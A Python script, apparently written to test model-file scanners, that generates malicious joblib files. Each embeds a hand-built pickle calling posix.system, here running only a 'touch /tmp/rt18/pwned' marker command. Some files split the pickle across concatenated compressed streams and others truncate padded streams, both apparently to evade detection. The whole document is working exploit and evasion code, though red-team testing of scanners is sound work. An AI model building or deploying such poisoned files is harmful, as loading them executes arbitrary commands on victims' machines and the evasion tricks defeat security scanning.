import pickle, zlib, bz2, lzma, gzip, os, io
def payload(tag):
    return b"\x80\x02cposix\nsystem\nq\x00X" + len(f"touch /tmp/rt18/pwned_{tag}").to_bytes(4,'little') + f"touch /tmp/rt18/pwned_{tag}".encode() + b"\x85R."
def split(p, n=4): return p[:n], p[n:]
# zlib multi-stream (joblib BinaryZlibFile loops on eof)
a,b = split(payload("jl_zlib_multi"))
open("fn_jl_zlib_multi.joblib","wb").write(zlib.compress(a)+zlib.compress(b))
a,b = split(payload("jl_bz2_multi"))
open("fn_jl_bz2_multi.joblib","wb").write(bz2.compress(a)+bz2.compress(b))
a,b = split(payload("jl_xz_multi"))
open("fn_jl_xz_multi.joblib","wb").write(lzma.compress(a)+lzma.compress(b))
a,b = split(payload("jl_lzma_multi"))
open("fn_jl_lzma_multi.joblib","wb").write(lzma.compress(a,format=lzma.FORMAT_ALONE)+lzma.compress(b,format=lzma.FORMAT_ALONE))
a,b = split(payload("jl_gz_multi"))
open("fn_jl_gz_multi.joblib","wb").write(gzip.compress(a)+gzip.compress(b))
import lz4.frame
a,b = split(payload("jl_lz4_multi"))
open("fn_jl_lz4_multi.joblib","wb").write(lz4.frame.compress(a)+lz4.frame.compress(b))
# truncated streams
for name,comp in [("zlib",zlib.compress),("bz2",bz2.compress),("xz",lzma.compress),("gz",gzip.compress),("lzma",lambda d: lzma.compress(d,format=lzma.FORMAT_ALONE)),("lz4",lz4.frame.compress)]:
    p = payload("jl_%s_trunc"%name) + os.urandom(200000)
    c = comp(p)
    open("fn_jl_%s_trunc.joblib"%name,"wb").write(c[:len(c)//2])
